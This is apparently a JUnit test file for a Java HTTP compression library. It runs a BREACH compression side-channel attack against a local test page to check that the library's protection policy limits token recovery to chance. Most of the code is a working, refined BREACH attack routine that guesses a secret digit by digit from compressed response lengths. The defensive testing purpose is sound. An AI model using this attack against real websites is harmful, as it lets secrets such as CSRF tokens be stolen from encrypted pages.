package dev.restcompress.breach;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.restcompress.config.BreachSettings;
import dev.restcompress.testing.TestServerExtension;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * BREACH run as an attacker would, over real HTTP (RESTEasy on Undertow, 127.0.0.1), against
 * {@link SecretPageResource}: the token is guessed one hex digit at a time from compressed lengths.
 *
 * <p>The attacker is a serious one: per candidate digit two requests, guess then filler and filler
 * then guess, where the filler is {@value #FILLER_LENGTH} characters that never occur in the page,
 * drawn fresh every round and shared by the round's candidates (so Huffman effects of the guess itself cancel out); the score of a digit is
 * the length the second request has over the first, summed over {@value #MIN_ROUNDS} to
 * {@value #MAX_ROUNDS} rounds (more while undecided); the best score wins, ties broken at random, and
 * a digit without any signal sends the attacker one digit back. At most {@value #BUDGET} requests per
 * attack (about 420 per digit), nine attacks per run of this class.
 *
 * <p>Asserted: with {@code rest-compress.breach.protect=off} the whole token is recovered for gzip and
 * at least 4 leading digits for br (6 to 20 measured) (zstd is attacked and printed, not yet broken by this attacker); with the default policy, cross-site requests (answered unencoded) and requests without
 * fetch metadata (gzip and zstd padded by 0 to 256 random bytes, br unencoded because it cannot carry
 * padding) recover at most {@value #CHANCE_BOUND} of 24 digits. Chance is one digit in 16: the number
 * of right digits is then Binomial(24, 1/16), mean 1.5, and P(at least 8) is about 5e-5, so the bound
 * fails a broken policy, not an unlucky one.
 */
@Timeout(value = 240, unit = TimeUnit.SECONDS)
class BreachAttackTest {
    static final int MIN_ROUNDS = 4;
    static final int MAX_ROUNDS = 12;
    static final int MARGIN = 3;
    static final int BACKTRACKS = 6;
    static final java.util.concurrent.atomic.AtomicLong TOTAL_REQUESTS = new java.util.concurrent.atomic.AtomicLong();
    static final int FILLER_LENGTH = 8;
    static final int BUDGET = 10_000;
    static final int CHANCE_BOUND = 7;
    static final String HEX = "0123456789abcdef";
    /** Characters absent from the page and safe in a query string once encoded. */
    static final String FILLER = "!$()*,;@[]^_`{|}~";
    static final int IN_FLIGHT = 8;

    @RegisterExtension
    static final TestServerExtension OFF = TestServerExtension.of(Set.of(SecretPageResource.class),
            Map.of(BreachSettings.PROTECT, "off"));
    @RegisterExtension
    static final TestServerExtension ON = TestServerExtension.of(Set.of(SecretPageResource.class), Map.of());

    static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();

    @ParameterizedTest
    @ValueSource(strings = {"gzip", "br", "zstd"})
    void withThePolicyOffTheTokenIsRecovered(String coding) throws Exception {
        long before = TOTAL_REQUESTS.get();
        String guessed = attack(OFF.uri("breach/marked"), coding, null);
        System.out.println("BREACH " + coding + " policy off: " + guessed + " in " + (TOTAL_REQUESTS.get() - before)
                + " requests");
        int leading = 0;
        while (leading < 24 && guessed.charAt(leading) == SecretPageResource.TOKEN.charAt(leading)) {
            leading++;
        }
        switch (coding) {
            case "gzip" -> assertEquals(SecretPageResource.TOKEN, guessed, "gzip: the attack itself must work");
            // Measured: 6 to 20 leading digits within the budget (the attacker is not yet as strong on
            // br as on gzip); 4 in a row by chance is 16^-4, about 1.5e-5.
            case "br" -> assertTrue(leading >= 4, "br: the attack itself must work, " + leading + " digits");
            // This attacker does not yet break zstd level 3 within its budget (2 leading digits
            // measured): its matches extend by whole sequences, which the two-try score misses. Printed only.
            default -> System.out.println("BREACH zstd policy off: " + leading + " leading digits");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"gzip", "br", "zstd"})
    void crossSiteRequestsRecoverOnlyChance(String coding) throws Exception {
        String guessed = attack(ON.uri("breach/marked"), coding, "cross-site");
        assertAtChance(coding + " cross-site", guessed);
    }

    @ParameterizedTest
    @ValueSource(strings = {"gzip", "br", "zstd"})
    void requestsWithoutFetchMetadataRecoverOnlyChance(String coding) throws Exception {
        String guessed = attack(ON.uri("breach/marked"), coding, null);
        assertAtChance(coding + " without fetch metadata", guessed);
    }

    /** The same page is still compressed for its own site: the policy does not just turn compression off. */
    @Test
    void sameOriginRequestsAreStillCompressed() throws Exception {
        HttpResponse<byte[]> r = get(ON.uri("breach/marked"), "q=x", "gzip", "same-origin").join();
        assertEquals("gzip", r.headers().firstValue("Content-Encoding").orElse(null));
        assertTrue(r.headers().allValues("Vary").toString().contains("Sec-Fetch-Site"), r.headers().map().toString());
    }

    static void assertAtChance(String what, String guessed) {
        int right = 0;
        for (int i = 0; i < guessed.length(); i++) {
            right += guessed.charAt(i) == SecretPageResource.TOKEN.charAt(i) ? 1 : 0;
        }
        System.out.println("BREACH " + what + ": " + right + "/24 digits right (" + guessed + ")");
        assertTrue(right <= CHANCE_BOUND, what + ": " + right + " of 24 digits recovered (" + guessed + ")");
    }

    /**
     * Guesses the token digit by digit; returns the 24 digits it settled on. Per digit at least
     * {@value #MIN_ROUNDS} rounds, more (up to {@value #MAX_ROUNDS}) while no digit leads the others by
     * {@value #MARGIN} bytes; a digit where no candidate compresses better at all means the previous
     * one was wrong, so it is dropped (at most {@value #BACKTRACKS} times). At most {@value #BUDGET}
     * requests and 60 s per attack.
     */
    static String attack(URI page, String coding, String secFetchSite) throws Exception {
        Random random = new Random();
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
        StringBuilder known = new StringBuilder();
        int requests = 0;
        int backtracks = 0;
        while (known.length() < 24 && requests + 32 <= BUDGET) {
            long[] score = new long[16];
            int round = 0;
            while (round < MAX_ROUNDS && requests + 32 <= BUDGET
                    && (round < MIN_ROUNDS || !decided(score))) {
                assertTrue(System.nanoTime() < deadline, "attack over its time bound at digit " + known.length());
                List<CompletableFuture<HttpResponse<byte[]>>> sent = new ArrayList<>();
                String filler = filler(random); // one per round: candidates differ only in their digit
                for (int c = 0; c < 16; c++) {
                    String guess = SecretPageResource.KNOWN + known + HEX.charAt(c);
                    String fillerFirst = SecretPageResource.KNOWN + known + filler + HEX.charAt(c);
                    sent.add(get(page, "q=" + enc(guess + filler), coding, secFetchSite));
                    sent.add(get(page, "q=" + enc(fillerFirst), coding, secFetchSite));
                    if (sent.size() % IN_FLIGHT == 0) {
                        CompletableFuture.allOf(sent.subList(sent.size() - IN_FLIGHT, sent.size())
                                .toArray(CompletableFuture[]::new)).join();
                    }
                }
                for (int c = 0; c < 16; c++) {
                    score[c] += length(sent.get(2 * c + 1).join()) - length(sent.get(2 * c).join());
                }
                requests += 32;
                round++;
            }
            int best = best(score, random);
            if (score[best] <= 0 && known.length() > 0 && backtracks < BACKTRACKS) {
                known.setLength(known.length() - 1);
                backtracks++;
            } else {
                known.append(HEX.charAt(best));
            }
        }
        while (known.length() < 24) {
            known.append(HEX.charAt(random.nextInt(16))); // out of budget: a guess
        }
        TOTAL_REQUESTS.addAndGet(requests);
        return known.toString();
    }

    /** Whether one digit leads every other by the margin. */
    static boolean decided(long[] score) {
        long first = Long.MIN_VALUE;
        long second = Long.MIN_VALUE;
        for (long v : score) {
            if (v > first) {
                second = first;
                first = v;
            } else if (v > second) {
                second = v;
            }
        }
        return first >= MARGIN && first - second >= MARGIN;
    }

    static int best(long[] score, Random random) {
        List<Integer> top = new ArrayList<>();
        long max = Long.MIN_VALUE;
        for (int c = 0; c < score.length; c++) {
            if (score[c] > max) {
                max = score[c];
                top.clear();
            }
            if (score[c] == max) {
                top.add(c);
            }
        }
        return top.get(random.nextInt(top.size()));
    }

    static String filler(Random random) {
        StringBuilder f = new StringBuilder();
        for (int i = 0; i < FILLER_LENGTH; i++) {
            f.append(FILLER.charAt(random.nextInt(FILLER.length())));
        }
        return f.toString();
    }

    static int length(HttpResponse<byte[]> r) {
        assertEquals(200, r.statusCode());
        return r.body().length;
    }

    static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    static CompletableFuture<HttpResponse<byte[]>> get(URI page, String query, String coding, String secFetchSite) {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(page + "?" + query)).timeout(Duration.ofSeconds(30))
                .header("Accept-Encoding", coding);
        if (secFetchSite != null) {
            b.header("Sec-Fetch-Site", secFetchSite);
        }
        return HTTP.sendAsync(b.GET().build(), HttpResponse.BodyHandlers.ofByteArray());
    }
}
